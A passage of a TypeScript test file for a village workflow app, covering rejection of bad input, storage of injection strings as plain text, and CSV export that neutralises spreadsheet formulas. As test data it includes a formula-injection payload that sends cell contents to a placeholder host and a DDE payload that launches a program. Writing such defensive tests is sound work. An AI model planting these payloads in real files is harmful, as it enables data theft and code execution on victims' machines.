  throw new Error(`expected a refusal, but the call succeeded: ${JSON.stringify(value)?.slice(0, 300)}`);
}

const ctx: Ctx = {
  as: (u) => {
    const c = clients.get(u);
    if (!c) throw new Error(`no client signed in as ${u}`);
    return c;
  },
  http: (path, { as, ...init }) => {
    const headers = new Headers(init.headers);
    headers.set('x-villageflow', '1');
    if (as) headers.set('cookie', sessionOf.get(as)!);
    return fetch(`${server.url}/trpc/${path}`, { ...init, headers });
  },
  seq: (id) => (server.store.db.prepare(SEQ_OF).get(id) as { seq: number }).seq,
  ids: { proposal: '', twoCommittees: '', protoGuard: '', registration: '' },
  versionOf: new Map(),
};

let changeMark: () => string;
let dumped: { mark: string; dump: Dump } | undefined;
/** The dump of the database without the tables in `skip` (db-dump.ts), made again only when the change mark moved. */
function dump(skip: readonly string[]): Dump {
  const mark = changeMark();
  if (dumped?.mark !== mark) dumped = { mark, dump: dumpDb(server.store.db) };
  return Object.fromEntries(Object.entries(dumped.dump).filter(([table]) => !skip.includes(table)));
}

beforeAll(async () => {
  server = await startTestServer();
  changeMark = watchChanges(server.store, []);
  dir = mkdtempSync(join(tmpdir(), 'villageflow-bad-input-'));
  const users = ['qs.admin', 'qs.reviewer', 'qs.auditor', 'nanwan.secretary', 'nanwan.clerk', 'nanwan.party1', 'nanwan.party2', 'nanwan.villager', 'nanwan.rep', 'nanwan.agent', 'dongping.party9', 'dongping.clerk', 'xiling.secretary'];
  for (const u of users) {
    const { client, cookies } = clientFor(server.url);
    await client.auth.login.mutate({ username: u, password: DEMO_PASSWORD });
    clients.set(u, client);
    sessionOf.set(u, `vf_session=${cookies.get('vf_session')}`);
  }
  storedHash = (server.store.db.prepare('SELECT token_hash FROM sessions LIMIT 1').get() as { token_hash: string }).token_hash;
  const { client, cookies } = clientFor(server.url);
  await client.auth.login.mutate({ username: 'nanwan.secretary', password: DEMO_PASSWORD });
  loggedOut = `vf_session=${cookies.get('vf_session')}`;
  await client.auth.logout.mutate();
  const secretary = ctx.as('nanwan.secretary');
  ctx.ids.proposal = (await secretary.instances.start.mutate({ villageId: 'nanwan', flowId: FIVE, title: '南湾社区：坏输入（提议）' })).id;
  ctx.ids.twoCommittees = (await secretary.instances.start.mutate({ villageId: 'nanwan', flowId: FIVE, title: '南湾社区：坏输入（两委）' })).id;
  await secretary.instances.send.mutate({ id: ctx.ids.twoCommittees, seq: 1, type: 'SUBMIT', payload: PROPOSAL });
  ctx.ids.registration = (await ctx.as('nanwan.agent').instances.start.mutate({ villageId: 'nanwan', flowId: 'proxy-service' })).id;
}, 60_000);
afterAll(async () => {
  await server?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe(`bad input: ${cases.length} cases, each refused with a typed error naming the problem, the database unchanged`, () => {
  it('the corpus has at least 100 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(100);
    expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
  });

  it('the dump notices a single accepted ballot (the instrument works)', async () => {
    const before = dumpDb(server.store.db);
    const mark = changeMark();
    await ballot(ctx, { choice: 'abstain' });
    const after = dumpDb(server.store.db);
    // The cases read the dump again only when the change mark moved: it moves with the ballot.
    expect(changeMark()).not.toBe(mark);
    const moved = Object.keys(before).filter((t) => before[t] !== after[t]);
    // The inbox rows are rewritten with every event (same content, new rowids, or not).
    expect(moved).toEqual(expect.arrayContaining(['history', 'instances']));
    expect(moved.filter((t) => !['history', 'instances', 'tasks'].includes(t))).toEqual([]);
  });

  it.each(cases)('$name', async (c) => {
    await c.setup?.(ctx);
    const db = server.store.db;
    const skip = c.writes ? [c.writes.table] : [];
    const failuresBefore = (db.prepare('SELECT count(*) AS n FROM login_failures').get() as { n: number }).n;
    const before = dump(skip);

    const refusal = await refusalOf(c.call(ctx));
    expect(refusal.code, refusal.message).toBe(c.code);
    if (c.engineCode) expect(refusal.engineCode, refusal.message).toBe(c.engineCode);
    const said = [refusal.message, ...refusal.issues.map((i) => `${i.pointer} ${i.message}`)];
    expect(said.some((line) => c.names.test(line)), `none of these names the problem (${c.names}):\n${said.join('\n')}`).toBe(true);
    // The client never sees internals.
    expect(refusal.message).not.toMatch(/SQLITE|at .*\.ts:\d+|internal error/);

    expect(dump(skip)).toEqual(before);
    const failuresAfter = (db.prepare('SELECT count(*) AS n FROM login_failures').get() as { n: number }).n;
    expect(failuresAfter - failuresBefore).toBe(c.writes?.rows ?? 0);
  });
});

describe('injection strings in text fields are stored and returned as text, byte for byte', () => {
  it.each(INJECTIONS)('%s', async (text) => {
    const secretary = ctx.as('nanwan.secretary');
    const tablesBefore = server.store.db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").all();
    const started = await secretary.instances.start.mutate({ villageId: 'nanwan', flowId: FIVE, title: text });
    expect(started.title).toBe(text);
    const payload = { ...PROPOSAL, subject: text.slice(0, 100), content: text, branch_minutes: text };
    await secretary.instances.send.mutate({ id: started.id, seq: 1, type: 'SUBMIT', payload });
    const clerk = ctx.as('nanwan.clerk');
    await clerk.instances.send.mutate({ id: started.id, seq: 2, type: 'RECORD_VOTE', payload: { ...TWO_COMMITTEES_MEETING, notes: text } });

    const view = await ctx.as('nanwan.party1').instances.get.query({ id: started.id });
    expect(view.instance.title).toBe(text);
    expect((view.data.proposal as Record<string, unknown>).content).toBe(text);
    expect((view.data.proposal as Record<string, unknown>).branch_minutes).toBe(text);
    const history = await ctx.as('qs.auditor').audit.history.query({ id: started.id });
    expect(history[1]!.payload).toEqual(payload);
    expect(history[2]!.payload.notes).toBe(text);
    expect((await ctx.as('nanwan.clerk').instances.list.query({ villageId: 'nanwan' })).find((i) => i.id === started.id)?.title).toBe(text);
    // Stored as a value, not run as SQL: the same tables, and the chain verifies.
    expect(server.store.db.prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").all()).toEqual(tablesBefore);
    expect(await ctx.as('qs.auditor').audit.verify.query({ id: started.id })).toMatchObject({ ok: true, count: 3 });
  });

  it('in catalogue items and user names too', async () => {
    const admin = ctx.as('qs.admin');
    for (const [i, text] of INJECTIONS.entries()) {
      const saved = await admin.catalogue.upsert.mutate({ ...item, code: `INJ-${i}`, name: text.slice(0, 200), conditions: text, fee: text.slice(0, 200) } as never);
      const back = (await admin.catalogue.get.query({ id: saved.id })).item;
      expect([back.name, back.conditions, back.fee]).toEqual([text.slice(0, 200), text, text.slice(0, 200)]);
      const created = await admin.org.createUser.mutate({ ...user, username: `inj.user${i}`, displayName: text.slice(0, 100) } as never);
      expect(created?.displayName).toBe(text.slice(0, 100));
    }
  });

  it('in people imported from a sheet: stored as typed, exported with formulas made text', async () => {
    const admin = ctx.as('qs.admin');
    // Names are trimmed, so none here begins or ends with blanks; a NUL byte makes a file binary (refused).
    const texts = ['=HYPERLINK("http://example.invalid/?"&A1,"点我")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', ...INJECTIONS.filter((t) => !t.includes('\u0000'))].map((t) => t.slice(0, 100).trim());
    const rows = texts.map((t, i) => [t, `inj.import${i}`, '', '东坪村', '村民']);
    const file = Papa.unparse({ fields: ['姓名', '用户名', '手机号', '村', '角色'], data: rows });
    await admin.org.importCommit.mutate({ file: { kind: 'csv', base64: b64(file) }, fileName: '注入.csv' });
    const stored = new Map((await admin.org.users.query()).map((u) => [u.username, u.displayName]));
    texts.forEach((t, i) => expect(stored.get(`inj.import${i}`)).toBe(t));
    // Exported, a cell a spreadsheet would run as a formula starts with ' (read as text); the others are as typed.
    const { csv } = await admin.org.exportPeople.query();
    const exported = new Map(Papa.parse<string[]>(csv.replace(/^\ufeff/, '')).data.map((r) => [r[1], r[0]]));
    texts.forEach((t, i) => expect(exported.get(`inj.import${i}`)).toBe(/^[=+\-@\t\r]/.test(t) ? `'${t}` : t));
  });
});
